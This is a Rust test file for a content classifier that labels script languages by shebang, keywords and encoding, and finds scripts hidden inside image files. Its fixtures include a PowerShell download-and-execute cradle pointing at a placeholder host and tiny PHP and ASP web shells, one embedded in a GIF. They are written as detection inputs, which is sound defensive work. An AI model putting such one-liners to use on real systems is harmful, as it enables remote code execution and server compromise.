//! Scripts by their first line, by their words, and inside other things.

use crate::labels;

/// The labels besides `Text`.
fn languages(text: &str) -> Vec<String> {
    labels(text.as_bytes()).into_iter().filter(|label| label != "Text").collect()
}

#[test]
fn the_first_line_decides() {
    for (line, language) in [
        ("#!/bin/sh\n", "Shell"),
        ("#! /bin/bash -e\n", "Shell"),
        ("#!/usr/bin/env python3\n", "Python"),
        ("#!/usr/bin/env -S LANG=C perl -w\n", "Perl"),
        ("#!/usr/local/bin/ruby2.7\n", "Ruby"),
        ("#!/usr/bin/nodejs\n", "JavaScript"),
        ("#!/usr/bin/php\n", "PHP"),
        ("#!/usr/bin/pwsh\n", "PowerShell"),
    ] {
        assert_eq!(languages(line), [language], "{line}");
    }
    assert_eq!(languages("#!/usr/bin/shred\n"), Vec::<String>::new());
}

#[test]
fn words_vote() {
    for (text, language) in [
        ("<?php echo 1; ?>", "PHP"),
        ("import os\nimport sys\n\ndef main():\n    print(sys.argv)\n", "Python"),
        ("for f in *; do\n  chmod +x $f\ndone\nif [ -f x ]; then\n  echo $(date)\nfi\n", "Shell"),
        ("$c = New-Object Net.WebClient\nIEX($c.DownloadString('http://x.invalid'))", "PowerShell"),
        (
            "'use strict';\nconst fs = require('fs');\nmodule.exports = function () { return 1; };",
            "JavaScript",
        ),
        ("On Error Resume Next\nDim s\nSet s = CreateObject(\"WScript.Shell\")\n", "VBScript"),
        ("Attribute VB_Name = \"Module1\"\nSub AutoOpen()\nEnd Sub\n", "VBA"),
        ("use strict;\nuse warnings;\nmy $x = shift;\n", "Perl"),
        ("require 'socket'\nclass A\n  attr_accessor :b\nend\n", "Ruby"),
        ("@ECHO OFF\r\nsetlocal\r\ngoto end\r\n", "Batch"),
        ("<%@ page language=\"java\" import=\"java.io.*\" %><% Runtime.getRuntime(); %>", "JSP"),
        ("<%@ Language=VBScript %><% Response.Write(\"x\") %>", "ASP"),
        ("<%@ Page Language=\"C#\" %><form runat=\"server\"></form>", "ASPX"),
        ("<!DOCTYPE html><html><body>x</body></html>", "HTML"),
        ("#include <stdio.h>\nint main(void) { return 0; }\n", "C"),
        ("package main\n\nimport \"fmt\"\n\nfunc main() { x := 1 }\n", "Go"),
    ] {
        assert!(languages(text).contains(&language.to_owned()), "{language}: {:?}", languages(text));
    }
}

#[test]
fn asp_kinds_are_told_apart() {
    let jsp = languages(
        "<%@ page import=\"java.util.*\" contentType=\"text/html\" %>\n<% out.println(request.getParameter(\"c\")); %>",
    );
    assert_eq!(jsp, ["JSP"]);
    let asp = languages("<%eval request(\"x\")%>");
    assert_eq!(asp, ["ASP"]);
    let aspx = languages("<%@ WebHandler Language=\"C#\" Class=\"H\" %>");
    assert_eq!(aspx, ["ASPX"]);
}

#[test]
fn prose_is_no_script() {
    let prose = "Let us return to the function of the set: to import goods, one must echo what the class \
        of 1890 said. If it exists, then end it. For each of you: select from where you stand.\n";
    assert_eq!(labels(prose.as_bytes()), ["Text"]);
    let licence = include_str!("../../../../LICENSE");
    assert_eq!(labels(licence.as_bytes()), ["Text"]);
    assert_eq!(labels("汉字文本。\n".as_bytes()), ["Text"]);
}

#[test]
fn utf_16_is_read() {
    let text = "Invoke-WebRequest http://x.invalid | Invoke-Expression";
    let little: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let big: Vec<u8> = text.encode_utf16().flat_map(u16::to_be_bytes).collect();
    for bytes in [[&b"\xff\xfe"[..], &little].concat(), [&b"\xfe\xff"[..], &big].concat(), little] {
        assert!(labels(&bytes).contains(&"PowerShell".to_owned()), "{:?}", labels(&bytes));
    }
}

#[test]
fn a_script_in_a_picture_is_found() {
    let mut gif = b"GIF89a\x01\0\x01\0\x80\0\0\0\0\0".to_vec();
    gif.extend(b"<?PHP system($_GET['c']); ?>");
    assert_eq!(labels(&gif), ["GIF", "PHP"]);
    let mut jpeg = b"\xff\xd8\xff\xe1\0\x10".to_vec();
    jpeg.extend([0; 3000]);
    jpeg.extend(b"<?php phpinfo();");
    assert_eq!(labels(&jpeg), ["JPEG", "PHP"]);
    // Random bytes hold `<?` every 64 kB.
    let noise = b"\xff\xd8\xff\xe1\0\x10\0<?ph\0<?phpx\0<?xml \0";
    assert_eq!(labels(noise), ["JPEG"]);
}
